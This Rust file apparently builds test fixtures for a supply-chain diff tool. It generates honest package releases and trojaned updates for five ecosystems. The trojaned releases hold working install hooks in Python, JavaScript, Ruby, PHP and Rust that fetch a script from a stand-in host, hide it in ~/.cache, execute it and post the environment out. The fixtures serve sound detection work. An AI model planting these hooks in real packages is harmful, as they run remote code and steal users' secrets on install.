//! Release pairs for the diff: an honest package whose consecutive releases
//! differ only in noise, and a trojaned update.
//!
//! - [`Flavour::Builder`]: an install hook that does what honest build
//!   steps do, with noise that changes every release and every run: a temp
//!   directory with a random name, a log named after the version, a
//!   temp-file naming scheme that changes between releases (prefix, stem
//!   and extension), a command whose arguments carry the version, and
//!   source files whose line numbers shift between releases.
//! - [`Flavour::Trojan`]: the package's next release adds an install hook
//!   that resolves a host, downloads a payload over HTTP, writes it to a
//!   hidden file, makes it executable and runs it, and posts the
//!   environment to the same host.
//!
//! [`honest_pair`] and [`trojan_pair`] give the two releases of each, for
//! every ecosystem.

use paddock_proto::v1::Ecosystem;

use crate::packages::{reference, FixturePackage, Flavour};

/// The host the trojaned releases talk to (a reserved name: in the
/// sandbox it resolves to the simulated internet).
pub const TROJAN_HOST: &str = "telemetry.update-cdn.example";

fn release(eco: Ecosystem, name: &str, version: &str, flavour: Flavour) -> FixturePackage {
    FixturePackage {
        eco,
        name: name.into(),
        version: version.into(),
        published: "2026-11-20T12:00:00Z".into(),
        flavour,
        dependencies: Vec::new(),
    }
}

fn name(eco: Ecosystem, base: &str) -> String {
    match eco {
        Ecosystem::Packagist => format!("paddock/{base}"),
        Ecosystem::Rubygems => base.replace('-', "_"),
        _ => base.into(),
    }
}

/// Two releases of an honest package with an install hook; only noise
/// differs.
pub fn honest_pair(eco: Ecosystem) -> (FixturePackage, FixturePackage) {
    let n = name(eco, "paddock-builder");
    (
        release(eco, &n, "2.3.0", Flavour::Builder),
        release(eco, &n, "2.3.1", Flavour::Builder),
    )
}

/// An honest release without hooks, then a trojaned one.
pub fn trojan_pair(eco: Ecosystem) -> (FixturePackage, FixturePackage) {
    let n = name(eco, "paddock-trojaned");
    (
        release(eco, &n, "1.4.0", Flavour::Honest),
        release(eco, &n, "1.4.1", Flavour::Trojan),
    )
}

/// How a release names its temp files: odd patch releases changed the
/// scheme (another prefix, another stem, another extension), as an honest
/// refactor or a new temp-file library does.
fn temp_style(version: &str) -> (&'static str, &'static str, &'static str) {
    let patch: usize = version
        .rsplit('.')
        .next()
        .and_then(|p| p.parse().ok())
        .unwrap_or(0);
    if patch.is_multiple_of(2) {
        ("build-", "build-", "log")
    } else {
        ("pkgbld_", "out_", "tmp")
    }
}

/// The build step's source with the release's temp-file naming.
fn with_temp_style(src: String, version: &str) -> String {
    let (prefix, stem, ext) = temp_style(version);
    let mut s = src
        .replace("prefix=\"build-\"", &format!("prefix=\"{prefix}\""))
        .replace("'build-')", &format!("'{prefix}')"))
        .replace("/tmp/build-{:x}", &format!("/tmp/{prefix}{{:x}}"));
    for var in ["%s", "${version}", "#{version}", "$version", "{version}"] {
        s = s.replace(&format!("build-{var}.log"), &format!("{stem}{var}.{ext}"));
    }
    s
}

/// Lines that shift every later line by one per patch release.
fn padding(version: &str, comment: &str) -> String {
    let patch: usize = version
        .rsplit('.')
        .next()
        .and_then(|p| p.parse().ok())
        .unwrap_or(0);
    format!("{comment} release notes\n").repeat(patch)
}

fn python(trojan: bool) -> String {
    let mut s = String::from(
        r##"import os, subprocess, tempfile

def build(version):
    work = tempfile.mkdtemp(prefix="build-")
    log = os.path.join(work, "build-%s.log" % version)
    with open(log, "w") as f:
        f.write("building %s\n" % version)
    subprocess.run(["sh", "-c", "echo compiling extension for %s > /dev/null" % version])
    os.remove(log)
    os.rmdir(work)
"##,
    );
    if trojan {
        s.push_str(&format!(
            r##"
def update():
    import json, socket, stat, urllib.request
    host = "{TROJAN_HOST}"
    body = urllib.request.urlopen("http://%s/agent/stage2.sh" % host, timeout=10).read()
    path = os.path.expanduser("~/.cache/.sysupdate")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(b"#!/bin/sh\n" + body)
    os.chmod(path, 0o755)
    subprocess.run([path])
    data = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen(urllib.request.Request("http://%s/collect" % host, data=data, method="POST"), timeout=10).read()
"##
        ));
    }
    s
}

fn node(trojan: bool) -> String {
    let mut s = String::from(
        r##"'use strict';
const cp = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

function build(version) {
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'build-'));
  const log = path.join(work, `build-${version}.log`);
  fs.writeFileSync(log, `building ${version}\n`);
  cp.execFileSync('sh', ['-c', `echo compiling extension for ${version} > /dev/null`]);
  fs.unlinkSync(log);
  fs.rmdirSync(work);
}
"##,
    );
    if trojan {
        s.push_str(&format!(
            r##"
function update(done) {{
  const http = require('http');
  const host = '{TROJAN_HOST}';
  http.get({{ host, path: '/agent/stage2.sh', timeout: 10000 }}, (res) => {{
    const chunks = [];
    res.on('data', (c) => chunks.push(c));
    res.on('end', () => {{
      const file = path.join(os.homedir(), '.cache', '.sysupdate');
      fs.mkdirSync(path.dirname(file), {{ recursive: true }});
      fs.writeFileSync(file, Buffer.concat([Buffer.from('#!/bin/sh\n'), ...chunks]), {{ mode: 0o755 }});
      cp.execFileSync(file);
      const data = JSON.stringify(process.env);
      const req = http.request({{ host, path: '/collect', method: 'POST', timeout: 10000,
        headers: {{ 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(data) }} }},
        (r) => {{ r.resume(); r.on('end', done); }});
      req.on('error', done);
      req.end(data);
    }});
  }}).on('error', done);
}}
module.exports.update = update;
"##
        ));
    }
    s.push_str("module.exports.build = build;\n");
    s
}

fn ruby(trojan: bool) -> String {
    let mut s = String::from(
        r##"require 'tmpdir'

module PaddockBuild
  def self.build(version)
    Dir.mktmpdir('build-') do |work|
      log = File.join(work, "build-#{version}.log")
      File.write(log, "building #{version}\n")
      system('sh', '-c', "echo compiling extension for #{version} > /dev/null")
      File.delete(log)
    end
  end
"##,
    );
    if trojan {
        s.push_str(&format!(
            r##"
  def self.update
    require 'net/http'
    require 'json'
    host = '{TROJAN_HOST}'
    body = Net::HTTP.get(host, '/agent/stage2.sh')
    file = File.join(Dir.home, '.cache', '.sysupdate')
    Dir.mkdir(File.dirname(file)) unless Dir.exist?(File.dirname(file))
    File.write(file, "#!/bin/sh\n" + body.to_s)
    File.chmod(0o755, file)
    system(file)
    Net::HTTP.post(URI("http://#{{host}}/collect"), ENV.to_h.to_json, 'Content-Type' => 'application/json')
  end
"##
        ));
    }
    s.push_str("end\n");
    s
}

fn php(trojan: bool) -> String {
    let mut s = String::from(
        r##"<?php
if (!function_exists('paddock_build')) {
    function paddock_build($version) {
        $work = tempnam(sys_get_temp_dir(), 'build-');
        unlink($work);
        mkdir($work);
        $log = "$work/build-$version.log";
        file_put_contents($log, "building $version\n");
        system('sh -c ' . escapeshellarg("echo compiling extension for $version > /dev/null"));
        unlink($log);
        rmdir($work);
    }
}
"##,
    );
    if trojan {
        s.push_str(&format!(
            r##"if (!function_exists('paddock_update')) {{
    function paddock_update() {{
        $host = '{TROJAN_HOST}';
        $body = @file_get_contents("http://$host/agent/stage2.sh");
        $file = getenv('HOME') . '/.cache/.sysupdate';
        @mkdir(dirname($file), 0755, true);
        file_put_contents($file, "#!/bin/sh\n" . $body);
        chmod($file, 0755);
        system(escapeshellarg($file));
        $ctx = stream_context_create(['http' => ['method' => 'POST',
            'header' => "Content-Type: application/json\r\n", 'content' => json_encode(getenv())]]);
        @file_get_contents("http://$host/collect", false, $ctx);
    }}
}}
"##
        ));
    }
    s
}

fn rust(trojan: bool) -> String {
    let mut s = String::from(
        r##"pub fn build(version: &str) {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.subsec_nanos())
        .unwrap_or(0);
    let work = format!("/tmp/build-{:x}{:x}", std::process::id(), nanos);
    let _ = std::fs::create_dir_all(&work);
    let log = format!("{work}/build-{version}.log");
    let _ = std::fs::write(&log, format!("building {version}\n"));
    let _ = std::process::Command::new("sh")
        .args(["-c", &format!("echo compiling extension for {version} > /dev/null")])
        .status();
    let _ = std::fs::remove_file(&log);
    let _ = std::fs::remove_dir(&work);
}
"##,
    );
    if trojan {
        s.push_str(&format!(
            r##"
fn get(host: &str, request: &str) -> Vec<u8> {{
    use std::io::{{Read, Write}};
    use std::net::ToSocketAddrs;
    let Some(addr) = (host, 80).to_socket_addrs().ok().and_then(|mut a| a.next()) else {{
        return Vec::new();
    }};
    let Ok(mut s) = std::net::TcpStream::connect_timeout(&addr, std::time::Duration::from_secs(10)) else {{
        return Vec::new();
    }};
    let _ = s.write_all(request.as_bytes());
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    out
}}

pub fn update() {{
    let host = "{TROJAN_HOST}";
    let reply = get(host, &format!("GET /agent/stage2.sh HTTP/1.1\r\nHost: {{host}}\r\nConnection: close\r\n\r\n"));
    let body = reply
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .map(|i| reply[i + 4..].to_vec())
        .unwrap_or_default();
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    let file = format!("{{home}}/.cache/.sysupdate");
    let _ = std::fs::create_dir_all(format!("{{home}}/.cache"));
    let mut script = b"#!/bin/sh\n".to_vec();
    script.extend_from_slice(&body);
    let _ = std::fs::write(&file, script);
    use std::os::unix::fs::PermissionsExt;
    let _ = std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755));
    let _ = std::process::Command::new(&file).status();
    let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{{k}}={{v}}")).collect();
    let data = env.join("\n");
    let _ = get(host, &format!(
        "POST /collect HTTP/1.1\r\nHost: {{host}}\r\nContent-Length: {{}}\r\nConnection: close\r\n\r\n{{data}}",
        data.len()
    ));
}}
"##
        ));
    }
    s
}

/// The files of a [`Flavour::Builder`] or [`Flavour::Trojan`] release.
pub fn sources(pkg: &FixturePackage) -> Vec<(String, String)> {
    let v = &pkg.version;
    let trojan = pkg.flavour == Flavour::Trojan;
    let call = |build: &str, update: &str| {
        if trojan {
            format!("{build}\n{update}")
        } else {
            build.to_owned()
        }
    };
    match pkg.eco {
        Ecosystem::Npm => {
            let hook = call(
                &format!("require('./build').build('{v}');"),
                "require('./build').update(() => {});",
            );
            vec![
                (
                    "package/package.json".into(),
                    format!(
                        r##"{{"name":"{}","version":"{v}","main":"index.js","license":"MIT","scripts":{{"postinstall":"node install.js"}}}}"##,
                        pkg.name
                    ),
                ),
                (
                    "package/build.js".into(),
                    format!("{}{}", padding(v, "//"), with_temp_style(node(trojan), v)),
                ),
                ("package/install.js".into(), format!("{hook}\n")),
                (
                    "package/index.js".into(),
                    format!(
                        "{}module.exports = {{ pad: (s, n) => String(s).padStart(n) }};\n",
                        padding(v, "//")
                    ),
                ),
            ]
        }
        Ecosystem::Pypi => {
            let module = pkg.name.replace('-', "_");
            let root = format!("{module}-{v}");
            let hook = call(&format!("build('{v}')"), "update()");
            vec![
                (
                    format!("{root}/PKG-INFO"),
                    format!("Metadata-Version: 2.1\nName: {}\nVersion: {v}\n", pkg.name),
                ),
                (
                    format!("{root}/setup.py"),
                    format!(
                        "{}import sys\nsys.path.insert(0, '{module}')\nfrom _build import *\n{hook}\n\n\
                         from setuptools import setup\nsetup(name='{}', version='{v}', packages=['{module}'])\n",
                        padding(v, "#"),
                        pkg.name
                    ),
                ),
                (format!("{root}/{module}/_build.py"), format!("{}{}", padding(v, "#"), with_temp_style(python(trojan), v))),
                (
                    format!("{root}/{module}/__init__.py"),
                    format!("{}def pad(s, n):\n    return str(s).rjust(n)\n", padding(v, "#")),
                ),
            ]
        }
        Ecosystem::Rubygems => {
            let hook = call(&format!("PaddockBuild.build('{v}')"), "PaddockBuild.update");
            vec![
                (
                    format!("lib/{}.rb", pkg.name),
                    format!(
                        "{}module PaddockBuilder\n  def self.pad(s, n)\n    s.to_s.rjust(n)\n  end\nend\n",
                        padding(v, "#")
                    ),
                ),
                (
                    "ext/extconf.rb".into(),
                    format!(
                        "{}{}\n{hook}\nFile.write('Makefile', \"all:\\n\\t@true\\ninstall:\\n\\t@true\\nclean:\\n\\t@true\\n\")\n",
                        padding(v, "#"),
                        with_temp_style(ruby(trojan), v)
                    ),
                ),
            ]
        }
        Ecosystem::Packagist => {
            let root = format!("{}-{}", pkg.name.replace('/', "-"), reference(pkg));
            let hook = call(&format!("paddock_build('{v}');"), "paddock_update();");
            vec![
                (
                    format!("{root}/composer.json"),
                    format!(
                        r##"{{"name":"{}","type":"composer-plugin","license":"MIT","require":{{"composer-plugin-api":"^2.0"}},"autoload":{{"psr-4":{{"PaddockBuild\\":"src/"}}}},"extra":{{"class":"PaddockBuild\\Plugin"}}}}"##,
                        pkg.name
                    ),
                ),
                (format!("{root}/src/build.php"), with_temp_style(php(trojan), v)),
                (
                    format!("{root}/src/Plugin.php"),
                    format!(
                        "<?php\n{}namespace PaddockBuild;\n\nuse Composer\\Composer;\nuse Composer\\IO\\IOInterface;\nuse Composer\\Plugin\\PluginInterface;\n\n\
                         class Plugin implements PluginInterface\n{{\n    public function activate(Composer $composer, IOInterface $io)\n    {{\n        require_once __DIR__ . '/build.php';\n        {hook}\n    }}\n\n\
                         public function deactivate(Composer $composer, IOInterface $io) {{}}\n\n    public function uninstall(Composer $composer, IOInterface $io) {{}}\n}}\n",
                        padding(v, "//")
                    ),
                ),
            ]
        }
        Ecosystem::CratesIo | Ecosystem::Unspecified => {
            let root = format!("{}-{v}", pkg.name);
            let hook = call(&format!("build::build(\"{v}\");"), "build::update();");
            vec![
                (
                    format!("{root}/Cargo.toml"),
                    format!(
                        "[package]\nname = \"{}\"\nversion = \"{v}\"\nedition = \"2021\"\nlicense = \"MIT\"\nbuild = \"build.rs\"\n",
                        pkg.name
                    ),
                ),
                (format!("{root}/src/build_steps.rs"), format!("{}{}", padding(v, "//"), with_temp_style(rust(trojan), v))),
                (
                    format!("{root}/build.rs"),
                    format!(
                        "#[path = \"src/build_steps.rs\"]\nmod build;\n\nfn main() {{\n    {hook}\n}}\n"
                    ),
                ),
                (
                    format!("{root}/src/lib.rs"),
                    format!(
                        "{}pub fn pad(s: &str, n: usize) -> String {{\n    format!(\"{{s:>n$}}\")\n}}\n",
                        padding(v, "//")
                    ),
                ),
            ]
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_honest_pair_changes_its_temp_file_naming() {
        for eco in [
            Ecosystem::Npm,
            Ecosystem::Pypi,
            Ecosystem::Rubygems,
            Ecosystem::Packagist,
            Ecosystem::CratesIo,
        ] {
            let (a, b) = honest_pair(eco);
            let text = |p: &FixturePackage| {
                sources(p)
                    .into_iter()
                    .map(|(_, body)| body)
                    .collect::<String>()
            };
            let (a, b) = (text(&a), text(&b));
            assert!(a.contains("build-") && !a.contains("pkgbld_"), "{eco:?}");
            assert!(b.contains("pkgbld_") && b.contains("out_"), "{eco:?}: {b}");
            assert!(b.contains(".tmp") && !b.contains(".log"), "{eco:?}: {b}");
        }
    }
}
